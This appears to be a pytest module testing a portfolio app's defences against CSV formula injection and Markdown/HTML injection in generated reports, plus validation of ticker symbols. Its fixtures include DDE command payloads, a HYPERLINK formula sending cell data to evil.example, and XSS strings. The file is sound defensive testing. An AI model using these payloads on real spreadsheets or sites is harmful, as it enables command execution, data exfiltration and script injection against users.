"""Issue 17.8 — formula and markup injection in reports, and the symbol character set at the edge.

CSV: every text cell a spreadsheet would evaluate (starting with = + - @ tab CR) is prefixed with ``'``
(the OWASP CSV-injection rule) while numbers stay numbers. Markdown: no raw HTML, no live links.
The data that carries the attacks is stored the way older data could be (straight into the
database: the API now refuses such symbols) or comes through fields with no character set (tags,
portfolio names).
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from rest_framework.test import APIClient

from core.testing import assert_error
from portfolios.models import Portfolio, Position, Tag
from portfolios.validation import symbol_problem
from reports.builders.markdown import md_text
from reports.builders.tabular import csv_safe
from reports.services import report_generate
from reports.tests.factories import AS_OF, analytics_create

pytestmark = pytest.mark.django_db

ATTACKS = [
    "=CMD|' /C CALC'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("attack", ATTACKS)
def test_csv_safe_prefixes_every_formula_start_and_leaves_numbers(attack):
    assert csv_safe(attack) == "'" + attack


@pytest.mark.parametrize("value", [-1234.5, -3, 0.0, "-12.5", "+3", "-1e-05", "AAPL", "", "Tech;Hedge"])
def test_csv_safe_leaves_numbers_and_plain_text_alone(value):
    assert csv_safe(value) == value


@pytest.fixture
def attacked_report(portfolio, tmp_path):
    aapl = analytics_create(portfolio)["positions"]["AAPL"]
    Position.objects.filter(pk=aapl.pk).update(symbol=ATTACKS[0])  # older data, stored before the rule
    evil = Tag.objects.create(user=portfolio.user, name=ATTACKS[1])
    xom = Position.objects.get(portfolio=portfolio, symbol="XOM")
    xom.tags.set([evil])
    Portfolio.objects.filter(pk=portfolio.pk).update(name="<script>alert('x')</script> [pwn](javascript:alert(1))")
    return report_generate(portfolio_id=portfolio.id, as_of=AS_OF, output_dir=tmp_path)


def test_the_csv_report_neutralises_text_cells_and_keeps_negative_numbers(attacked_report):
    rows = list(csv.DictReader(io.StringIO(attacked_report.paths["csv"].read_text())))
    by_position = {r["type"]: r for r in rows}
    assert by_position["LONG"]["symbol"] == "'" + ATTACKS[0]
    assert by_position["SHORT"]["tags"] == "'" + ATTACKS[1]
    for row in rows:
        for cell in row.values():
            if cell.startswith(FORMULA_START):
                float(cell)  # only a number may start with a sign (a ValueError fails the test)
    # The short position's negative numbers are written as numbers, not as text.
    short = by_position["SHORT"]
    assert float(short["quantity"]) == -50 and short["quantity"].startswith("-")
    assert float(short["market_value"]) < 0 and not short["market_value"].startswith("'")


def test_the_markdown_report_carries_no_raw_html_and_no_live_link(attacked_report):
    md = attacked_report.paths["md"].read_text()
    assert "<script" not in md and "&lt;script&gt;" in md
    assert not re.search(r"(?<!\\)\]\(", md)  # no live link: every "](" is escaped
    assert "\\[pwn\\](javascript:alert(1))" in md
    assert "=CMD\\|' /C CALC'!A0" in md  # the pipe cannot break the table
    assert not re.search(r"<[a-zA-Z/!]", md)  # no tag of any kind
    html = attacked_report.paths["html"].read_text()
    assert "<script>alert" not in html


@pytest.mark.parametrize(
    ("raw", "rendered"),
    [
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("![x](http://evil/a.png)", "!\\[x\\](http://evil/a.png)"),
        ("a|b\nc", "a\\|b c"),
        ("`code` *em* _u_ ~s~", "\\`code\\` \\*em\\* \\_u\\_ \\~s\\~"),
        ("R&D", "R&amp;D"),
    ],
)
def test_md_text_by_hand(raw, rendered):
    assert md_text(raw) == rendered


# --- The symbol character set at the validation edge ----------------------------------------------


@pytest.mark.parametrize("symbol", ["AAPL", "BRK.B", "BRK-B", "BF/B", "^VIX", "SPY270917C00460000", "7203"])
def test_real_symbols_pass(symbol):
    assert symbol_problem(symbol) is None


@pytest.mark.parametrize("symbol", [*ATTACKS, "<SCRIPT>", "AA PL", "-AAPL", "A|B", "A;B", "A,B", "ÄPFEL", "A\nB"])
def test_symbols_outside_the_character_set_are_refused(symbol):
    assert "may only contain" in (symbol_problem(symbol.upper()) or "")


def test_the_api_refuses_a_formula_symbol_naming_the_field(owner_client: APIClient, portfolio):
    response = owner_client.post(
        f"/api/v1/data/portfolios/{portfolio.pk}/positions",
        {"symbol": ATTACKS[0], "position_type": "LONG", "quantity": 1, "entry_price": 10, "entry_date": "2026-01-05"},
        format="json",
    )
    error = assert_error(response, 400)
    assert "symbol" in str(error["details"]) and "may only contain" in str(error["details"])
    assert not Position.objects.exists()


def test_the_csv_import_refuses_a_formula_symbol_and_stores_nothing(owner_client: APIClient, portfolio):
    body = (
        "symbol,position_type,quantity,entry_price,entry_date,underlying_symbol,strike,expiration\n"
        "AAPL,LONG,1,10,2026-01-05,,,\n"
        '"=HYPERLINK(""http://evil"")",LONG,1,10,2026-01-05,,,\n'
        ",LC,1,2,2026-01-05,<SPY>,460,2027-09-17\n"
    )
    response = owner_client.post(
        f"/api/v1/data/portfolios/{portfolio.pk}/positions/import", body, content_type="text/csv"
    )
    rows = assert_error(response, 400, "invalid_rows")["details"]["rows"]
    assert set(rows) == {"3", "4"}
    assert "symbol" in rows["3"] and "underlying_symbol" in rows["4"]
    assert not Position.objects.exists()
